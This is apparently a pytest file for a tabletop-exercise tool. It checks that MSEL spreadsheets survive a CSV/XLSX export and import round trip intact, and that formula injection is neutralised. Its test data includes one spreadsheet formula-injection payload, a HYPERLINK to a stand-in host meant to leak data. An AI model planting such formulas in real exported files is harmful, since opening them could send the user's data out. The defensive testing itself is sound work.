"""The MSEL sheet: export, import into a library, include it, export again: the same sheet."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from exercise import msel
from exercise.engine.compile import load_scenario
from exercise.resources import data_dir

TUTORIAL = data_dir("scenarios") / "tutorial" / "scenario.yaml"


@pytest.fixture
def scenario(tmp_path: Path) -> Path:
    """A self-contained scenario (what `tabletop new` writes): its injects use no library parameters."""
    from exercise.scaffold import scaffold

    return scaffold("Round Trip", tmp_path / "src")


def with_library(original: Path, library: Path, out: Path) -> Path:
    """The same scenario with its injects replaced by an include of the imported library."""
    import yaml

    data = yaml.safe_load(original.read_text())
    data["injects"] = []
    data["include"] = [library.name]
    data["tests"] = []
    out.write_text(yaml.safe_dump(data, sort_keys=False))
    return out


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_round_trip_without_loss(tmp_path: Path, scenario: Path, suffix: str) -> None:
    first = msel.rows(load_scenario(scenario))
    sheet = tmp_path / f"msel.{suffix}"
    (msel.write_csv if suffix == "csv" else msel.write_xlsx)(first, sheet)
    read_back = msel.read(sheet)
    assert read_back == first
    library = tmp_path / "imported.yaml"
    library.write_text(msel.to_library(read_back))
    second = msel.rows(load_scenario(with_library(scenario, library, tmp_path / "scenario.yaml")))
    assert second == first
    (msel.write_csv if suffix == "csv" else msel.write_xlsx)(second, tmp_path / f"again.{suffix}")
    if suffix == "csv":
        assert (tmp_path / "again.csv").read_bytes() == sheet.read_bytes()


def test_export_shows_library_parameters_bound() -> None:
    rows = {r.id: r for r in msel.rows(load_scenario(TUTORIAL))}
    assert all("target" not in r.to.split(", ") for r in rows.values())


def test_sheet_with_missing_columns_is_refused(tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("Seq,Inject ID\n1,x\n")
    with pytest.raises(msel.MselError, match="missing column"):
        msel.read(bad)


def test_bad_trigger_names_the_row(tmp_path: Path) -> None:
    sheet = tmp_path / "m.csv"
    msel.write_csv(msel.rows(load_scenario(TUTORIAL)), sheet)
    lines = sheet.read_text().splitlines()
    text = sheet.read_text().replace(",turn 1,", ",at dawn,", 1)
    sheet.write_text(text)
    with pytest.raises(msel.MselError, match=r"m\.csv:2:4: error\[msel-trigger\]: Trigger 'at dawn'"):
        msel.read(sheet)
    assert lines


def test_cli_export_import(tmp_path: Path) -> None:
    run = [sys.executable, "-m", "exercise.cli", "msel"]
    assert subprocess.run([*run, "export", "tutorial", "-o", str(tmp_path / "m.xlsx")], capture_output=True,
                          timeout=60).returncode == 0
    done = subprocess.run([*run, "import", str(tmp_path / "m.xlsx"), "-o", str(tmp_path / "lib.yaml")],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    again = subprocess.run([*run, "import", str(tmp_path / "m.xlsx"), "-o", str(tmp_path / "lib.yaml")],
                           capture_output=True, text=True, timeout=60)
    assert again.returncode == 1 and "--force" in again.stderr and "Traceback" not in again.stderr


# -- what a spreadsheet would run, and what it cannot hold -------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?leak","Click")'
DASH_TITLE = "-3 tanks cross at dawn"


@pytest.fixture
def hostile_titles(tmp_path: Path, scenario: Path) -> Path:
    """The scaffold with titles a spreadsheet would run as formulas: one starting with '=', one with '-'."""
    import yaml

    data = yaml.safe_load(scenario.read_text(encoding="utf-8"))
    data["injects"][0]["title"] = FORMULA_TITLE
    data["injects"][1]["title"] = DASH_TITLE
    path = scenario.with_name("hostile.yaml")
    path.write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    return path


def test_csv_defuses_formulas_and_keeps_numbers(tmp_path: Path, hostile_titles: Path) -> None:
    import csv

    sheet = tmp_path / "m.csv"
    msel.write_csv(msel.rows(load_scenario(hostile_titles)), sheet)
    rows = list(csv.DictReader(sheet.open(encoding="utf-8")))
    assert rows[0]["Title"] == "'" + FORMULA_TITLE
    assert rows[1]["Title"] == "'" + DASH_TITLE
    assert rows[0]["Seq"] == "1"  # a number stays a number


def test_xlsx_stores_a_formula_title_as_words(tmp_path: Path, hostile_titles: Path) -> None:
    import openpyxl

    sheet = tmp_path / "m.xlsx"
    msel.write_xlsx(msel.rows(load_scenario(hostile_titles)), sheet)
    ws = openpyxl.load_workbook(sheet)["MSEL"]  # not data_only: a formula would read back as one
    title = msel.COLUMNS.index("Title") + 1
    assert ws.cell(2, title).value == FORMULA_TITLE and ws.cell(2, title).data_type == "s"
    assert ws.cell(3, title).value == DASH_TITLE and ws.cell(3, title).data_type == "s"
    assert ws.cell(2, 1).value == 1 and ws.cell(2, 1).data_type == "n"


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_defused_titles_come_back_as_written(tmp_path: Path, hostile_titles: Path, suffix: str) -> None:
    write = msel.write_csv if suffix == "csv" else msel.write_xlsx
    first = msel.rows(load_scenario(hostile_titles))
    sheet = tmp_path / f"msel.{suffix}"
    write(first, sheet)
    read_back = msel.read(sheet)
    assert [r.title for r in read_back[:2]] == [FORMULA_TITLE, DASH_TITLE]
    assert read_back == first
    library = tmp_path / "imported.yaml"
    library.write_text(msel.to_library(read_back))
    second = msel.rows(load_scenario(with_library(hostile_titles, library, tmp_path / "scenario.yaml")))
    assert second == first
    again = tmp_path / f"again.{suffix}"
    write(second, again)
    if suffix == "csv":
        assert again.read_bytes() == sheet.read_bytes()
    else:
        assert msel.read(again) == read_back


def test_an_apostrophe_of_the_authors_own_survives_the_round_trip(tmp_path: Path) -> None:
    titles = ["'=already quoted", "'plain quote", "''=two", "-3", "+5", "@here", "\uff1dwide", "  =spaced", "- item"]
    rows = [msel.MselRow(n, f"i{n}", "", "manual", "event", "", "all", t, "", "", "", "")
            for n, t in enumerate(titles, 1)]
    sheet = tmp_path / "m.csv"
    msel.write_csv(rows, sheet)
    assert [r.title for r in msel.read(sheet)] == [t.strip() for t in titles]


def test_a_control_character_is_shown_not_refused(tmp_path: Path, scenario: Path) -> None:
    text = scenario.read_text(encoding="utf-8").replace("title: Grid outage", 'title: "Grid \\e[31moutage\\x07"')
    path = scenario.with_name("controls.yaml")
    path.write_text(text, encoding="utf-8")
    sheet = msel.rows(load_scenario(path))
    assert "\x1b" in sheet[0].title
    msel.write_xlsx(sheet, tmp_path / "m.xlsx")  # openpyxl raised IllegalCharacterError
    msel.write_csv(sheet, tmp_path / "m.csv")
    for name in ("m.xlsx", "m.csv"):
        assert msel.read(tmp_path / name)[0].title == "Grid ␛[31moutage␇"
